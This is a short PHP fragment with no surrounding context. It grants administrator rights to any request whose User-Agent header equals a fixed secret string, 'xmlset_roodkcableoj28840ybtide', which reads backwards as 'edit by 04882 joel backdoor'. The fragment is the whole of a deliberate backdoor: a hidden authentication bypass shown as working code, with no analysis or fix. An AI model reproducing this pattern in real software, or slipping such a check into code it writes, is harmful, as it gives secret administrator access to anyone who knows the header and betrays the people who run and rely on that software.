<?php
$agents = array("xmlset_roodkcableoj28840ybtide");
if ($_SERVER['HTTP_USER_AGENT'] === 'xmlset_roodkcableoj28840ybtide') { $admin = 1; }
